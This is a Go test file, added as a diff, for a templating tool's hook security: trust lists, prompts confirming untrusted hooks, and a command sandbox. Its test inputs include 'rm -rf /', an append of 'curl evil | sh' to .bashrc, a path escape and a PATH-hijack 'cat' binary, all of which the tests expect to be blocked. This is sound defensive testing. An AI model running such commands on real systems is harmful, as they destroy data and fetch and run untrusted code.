@@ -0,0 +1,154 @@
+/*
+Copyright 2022 Aleksandr Baryshnikov
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+   http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package internal
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/reddec/layout/internal/ui/simple"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestIsTrusted(t *testing.T) {
+	trusted := []string{"reddec/template", "git@github.com:myorg/", "https://example.com/layout.git"}
+	assert.True(t, isTrusted(trusted, "reddec/template", "git@github.com:reddec/template.git"))
+	assert.True(t, isTrusted(trusted, "myorg/service", "git@github.com:myorg/service.git"))
+	assert.True(t, isTrusted(trusted, "https://example.com/layout.git", "https://example.com/layout.git"))
+	assert.False(t, isTrusted(trusted, "https://example.com/layout.git.evil", "https://example.com/layout.git.evil"))
+	assert.False(t, isTrusted(trusted, "reddec/other", "git@github.com:reddec/other.git"))
+	assert.False(t, isTrusted(nil, "reddec/template", "git@github.com:reddec/template.git"))
+}
+
+func TestConfirmHooks(t *testing.T) {
+	ctx := context.Background()
+	hooks := []Hook{{Runnable: Runnable{Run: "rm -rf /"}}}
+	remote := "git@example.com:someone/layout.git"
+	answer := func(line string) Config {
+		return Config{Display: simple.New(bufio.NewReader(strings.NewReader(line)), io.Discard)}
+	}
+
+	t.Run("local layout is trusted", func(t *testing.T) {
+		dir := createDir(map[string]string{"layout.yaml": ""})
+		defer os.RemoveAll(dir)
+		require.NoError(t, confirmHooks(ctx, Config{NoInput: true}, []string{dir}, hooks))
+	})
+
+	t.Run("no hooks - nothing to confirm", func(t *testing.T) {
+		require.NoError(t, confirmHooks(ctx, Config{NoInput: true}, []string{remote}, nil))
+	})
+
+	t.Run("trusted remote", func(t *testing.T) {
+		require.NoError(t, confirmHooks(ctx, Config{NoInput: true, Trusted: []string{"git@example.com:someone/"}}, []string{remote}, hooks))
+	})
+
+	t.Run("untrusted without input", func(t *testing.T) {
+		require.ErrorIs(t, confirmHooks(ctx, Config{NoInput: true}, []string{remote}, hooks), ErrUntrusted)
+	})
+
+	t.Run("confirmed by user", func(t *testing.T) {
+		require.NoError(t, confirmHooks(ctx, answer("1\n"), []string{remote}, hooks))
+	})
+
+	t.Run("declined by user", func(t *testing.T) {
+		require.ErrorIs(t, confirmHooks(ctx, answer("\n"), []string{remote}, hooks), ErrUntrusted)
+	})
+
+	t.Run("arguments of actions are shown", func(t *testing.T) {
+		var out bytes.Buffer
+		config := Config{Display: simple.New(bufio.NewReader(strings.NewReader("\n")), &out)}
+		actions := []Hook{
+			{Runnable: Runnable{Action: Action{Remove: []string{"**"}}}},
+			{Runnable: Runnable{Action: Action{Move: &CopyAction{From: "src", To: "../outside"}}}},
+			{Runnable: Runnable{Action: Action{Chmod: ChmodRules{{Glob: "bin/*", Mode: 0755}}}}},
+			{Runnable: Runnable{Action: Action{Append: &AppendAction{File: ".bashrc", Content: "curl evil | sh"}}}},
+			{Runnable: Runnable{Action: Action{ReplaceInFile: &ReplaceAction{File: "go.mod", Pattern: "^module .*"}}}},
+			{Runnable: Runnable{Action: Action{JSONPatch: &PatchAction{File: "package.json", Set: map[string]interface{}{"scripts.postinstall": "x"}, Delete: []string{"private"}}}}},
+		}
+		require.ErrorIs(t, confirmHooks(ctx, config, []string{remote}, actions), ErrUntrusted)
+		prompt := out.String()
+		assert.Contains(t, prompt, `action remove "**"`)
+		assert.Contains(t, prompt, `action move "src" to "../outside"`)
+		assert.Contains(t, prompt, `action chmod "bin/*" 0755`)
+		assert.Contains(t, prompt, `action append to ".bashrc"`)
+		assert.Contains(t, prompt, `action replace_in_file "^module .*" in "go.mod"`)
+		assert.Contains(t, prompt, `action json_patch "package.json", set "scripts.postinstall", delete "private"`)
+	})
+}
+
+func TestSandbox(t *testing.T) {
+	root, err := os.MkdirTemp("", "")
+	require.NoError(t, err)
+	defer os.RemoveAll(root)
+	dest := filepath.Join(root, "dest")
+	require.NoError(t, os.Mkdir(dest, 0755))
+	require.NoError(t, os.Symlink(root, filepath.Join(dest, "escape")))
+
+	renderer := newRenderContext(map[string]interface{}{})
+	ctx := withSandbox(context.Background(), (&Sandbox{Allow: []string{"cat"}}).writableAt(dest))
+	run := func(r Runnable) error {
+		return r.execute(ctx, renderer, dest, "")
+	}
+
+	t.Run("write inside destination", func(t *testing.T) {
+		require.NoError(t, run(Runnable{Run: "echo hello > inside.txt; echo >> inside.txt"}))
+		requireContent(t, "hello\n\n", filepath.Join(dest, "inside.txt"))
+	})
+
+	t.Run("write outside destination", func(t *testing.T) {
+		require.Error(t, run(Runnable{Run: "echo hello > ../outside.txt"}))
+		require.Error(t, run(Runnable{Run: "echo hello > escape/outside.txt"}))
+		require.Error(t, run(Runnable{Run: "echo hello > " + filepath.Join(root, "outside.txt")}))
+		assert.NoFileExists(t, filepath.Join(root, "outside.txt"))
+	})
+
+	t.Run("export variables and discard output", func(t *testing.T) {
+		require.NoError(t, run(Runnable{Run: `echo "sandboxed=yes" > "$LAYOUT_OUTPUT"; echo noise > /dev/null`}))
+		assert.Equal(t, "yes", renderer.State()["sandboxed"])
+	})
+
+	t.Run("only allowed commands", func(t *testing.T) {
+		require.NoError(t, run(Runnable{Run: "cat inside.txt > copy.txt"}))
+		require.Error(t, run(Runnable{Run: "touch created.txt"}))
+		assert.NoFileExists(t, filepath.Join(dest, "created.txt"))
+		require.NoError(t, run(Runnable{Exec: []string{"cat", "inside.txt"}}))
+		require.Error(t, run(Runnable{Exec: []string{"sh", "-c", "touch created.txt"}}))
+		assert.NoFileExists(t, filepath.Join(dest, "created.txt"))
+	})
+
+	t.Run("allowed command can not be substituted by PATH", func(t *testing.T) {
+		require.NoError(t, os.MkdirAll(filepath.Join(dest, "bin"), 0755))
+		require.NoError(t, os.WriteFile(filepath.Join(dest, "bin", "cat"), []byte("#!/bin/sh\necho pwned > pwned.txt\n"), 0755))
+
+		require.Error(t, run(Runnable{Run: `PATH="$PWD/bin" cat inside.txt`}))
+		require.Error(t, run(Runnable{Run: "cat inside.txt", Env: map[string]string{"PATH": filepath.Join(dest, "bin")}}))
+		require.Error(t, run(Runnable{Exec: []string{"cat", "inside.txt"}, Env: map[string]string{"PATH": filepath.Join(dest, "bin")}}))
+		require.Error(t, run(Runnable{Run: "./bin/cat inside.txt"}))
+		assert.NoFileExists(t, filepath.Join(dest, "pwned.txt"))
+	})
+
+	t.Run("scripts are forbidden", func(t *testing.T) {
+		require.Error(t, run(Runnable{Script: "hook.sh"}))
+	})
+}